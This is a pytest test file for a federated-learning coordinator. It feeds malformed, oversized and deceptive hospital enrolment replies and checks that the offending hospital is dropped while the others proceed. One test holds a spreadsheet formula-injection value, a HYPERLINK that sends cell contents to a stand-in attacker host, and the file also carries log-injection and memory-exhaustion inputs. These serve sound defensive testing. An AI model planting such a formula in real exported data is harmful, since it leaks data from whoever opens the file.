"""A hospital that answers its enrolment with what it should not: it leaves out itself, and the run goes on with the others."""

import csv
import json
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest
from flwr.app import ArrayRecord, ConfigRecord, Error, Message, RecordDict

from polyclinic.config import RunConfig
from polyclinic.errors import PolyclinicError
from polyclinic.runs.folder import Run
from polyclinic.server.app import coordinate
from polyclinic.server.phases.enrolment import enrol, enrol_request
from polyclinic.wire.messages import ENROL, FAILED, RECORD
from tests.server.test_joining import KEYS, NAMES, Here, Hospitals, hospitals

__all__ = ["hospitals"]
Told = dict[str, Any]
LIAR = 1  # the first that is asked; its name is "north"


class Lying(Hospitals):
    """One hospital's answer to enrolment is what ``lie`` makes of it, None for an error."""

    lie: Callable[[Told], Told | RecordDict | str] = staticmethod(dict)
    group: str | None = None

    def pull_messages(self, message_ids: Iterable[str]) -> list[Message]:
        replies = super().pull_messages(message_ids)
        for reply in replies:
            if reply.metadata.src_node_id == LIAR and reply.metadata.message_type == ENROL and reply.has_content():
                made = self.lie(dict(reply.content[RECORD]))
                if isinstance(made, str):
                    reply.__dict__ |= {"_content": None, "_error": Error(FAILED, made)}
                else:
                    reply.content = made if isinstance(made, RecordDict) else RecordDict({RECORD: ConfigRecord(made)})
                if self.group is not None:
                    reply.metadata.__dict__["_group_id"] = self.group
        return replies


def says(**values: Any) -> Callable[[Told], Told]:
    return lambda told: told | values


def with_schema(change: Callable[[Any], Any]) -> Callable[[Told], Told]:
    return lambda told: told | {"schema": json.dumps(change(json.loads(told["schema"])))}


UNREAD = "what it says of itself when it enrols cannot be read: field "
LIES: dict[str, tuple[Callable[[Told], Told | RecordDict | str], str]] = {
    "simulated": (says(simulated=True, sites=3), "it says that it is simulated, and the run's hospitals are real"),
    "a million simulated": (says(simulated=True, sites=1_000_000), "it says that it is simulated"),
    "too many simulated": (says(simulated=True, sites=10**12), UNREAD + "'sites'"),
    "simulated in words": (says(simulated="yes"), UNREAD + "'simulated'"),
    "no record": (lambda told: RecordDict(), UNREAD + "'polyclinic'"),
    "arrays": (lambda told: RecordDict({RECORD: ArrayRecord()}), UNREAD + "'polyclinic'"),
    "nothing": (lambda told: {}, UNREAD + "'site'"),
    "a long name": (says(site="n" * 10_000_000), UNREAD + "'site'"),
    "a name that is a row of the tables": (says(site="pooled"), UNREAD + "'site'"),
    "a name of several lines": (says(site="north\nERROR"), UNREAD + "'site'"),
    "another's name": (says(site="west"), "another hospital has the same name"),
    "no policy": (lambda told: {k: v for k, v in told.items() if k not in ("delta", "budget")}, UNREAD + "'delta'"),
    "delta no number": (says(delta=float("nan")), UNREAD + "'delta'"),
    "budget no number": (says(budget=float("nan")), UNREAD + "'budget'"),
    "budgets": (says(budget=[1.0, 2.0]), UNREAD + "'budget'"),
    "relation": (says(relation="none"), UNREAD + "'relation'"),
    "patients everywhere": (says(elsewhere=10**12), UNREAD + "'elsewhere'"),
    "another schema": (with_schema(lambda schema: schema | {"name": "other"}), "its schema is not that of most"),
    "half a schema": (with_schema(lambda schema: schema | {"columns": []}), UNREAD + "'schema'"),
    "a schema that is a list": (with_schema(lambda schema: [schema]), UNREAD + "'schema'"),
    "a schema that is no JSON": (says(schema="{"), UNREAD + "'schema'"),
    "a deep schema": (says(schema="[" * 1_000_000), UNREAD + "'schema'"),
    "a long schema": (says(schema=" " * 20_000_000), UNREAD + "'schema'"),
    "an error": (lambda told: "out of\nmemory " * 1_000_000, "out of memory out of memory"),
}


def enrolled(folder: Path, here: Here = lambda done: set(NAMES), group: str | None = None, **lie: Any) -> Any:
    grid = Lying(folder, RunConfig.build(KEYS), here)
    grid.group, grid.lie = group, lie.get("lie", dict)
    return enrol(grid, enrol_request("run", ""), 1, 1.0, simulates=lie.get("simulates", True))


@pytest.mark.parametrize("name", LIES)
def test_whatever_a_hospital_says_of_itself_the_others_enrol(hospitals: Path, name: str) -> None:
    lie, words = LIES[name]
    sites, dropped = enrolled(hospitals, lie=lie)
    honest = ["south"] if name == "another's name" else ["south", "west"]
    assert [site.name for site in sites] == honest and not any(site.simulated for site in sites)
    assert {why.startswith(words) for _, why in dropped} == {True} and all(len(why) < 600 for _, why in dropped)


@pytest.mark.parametrize("group", ["1", "2", "²", "9" * 5000, "-1", "north"])
def test_nobody_answers_in_anothers_place(hospitals: Path, group: str) -> None:
    sites, dropped = enrolled(hospitals, group=group)
    assert [(site.name, site.node) for site in sites] == [("north", 1), ("south", 2), ("west", 3)] and not dropped


def test_alone_it_makes_no_simulation_where_the_runs_hospitals_are_real(hospitals: Path) -> None:
    with pytest.raises(PolyclinicError, match="No hospital could enrol: it says that it is simulated"):
        enrolled(hospitals, lambda done: {"north"}, lie=says(simulated=True, sites=3), simulates=False)


def test_a_name_that_is_a_formula_is_text_in_the_table_for_people(hospitals: Path) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    config = RunConfig.build(KEYS | {"out": str(hospitals / "runs"), "rounds": 1})
    grid, folder = Lying(hospitals, config, lambda done: set(NAMES)), Run.create(config, pictures=False)
    grid.lie = says(site=name)
    coordinate(grid, config, folder)
    with (folder.path / "rounds.csv").open(newline="") as file:
        cells = {row["site"] for row in csv.DictReader(file)}
    assert f"'{name}" in cells and not any(cell.startswith("=") for cell in cells)
    assert name in set(folder.rounds()["site"])


@pytest.mark.parametrize("name", ["simulated", "a long name", "an error"])
def test_the_run_goes_on_with_the_others_and_says_why(hospitals: Path, name: str) -> None:
    config = RunConfig.build(KEYS | {"out": str(hospitals / "runs"), "rounds": 2, "participation.min-sites": 2})
    grid = Lying(hospitals, config, lambda done: set(NAMES))
    grid.lie, words = LIES[name]
    _, summary = coordinate(grid, config, Run.create(config, pictures=False))
    assert set(summary["metrics"]["sites"]) == {"south", "west"} and summary["rounds"] == 2
    assert {kind for who, kind in grid.asked if who == "north"} == {ENROL}
    [dropped] = summary["dropouts"]  # it is asked once more before the first round, and said to be out once
    assert dropped["reason"].startswith(words) and dropped["round"] == 0
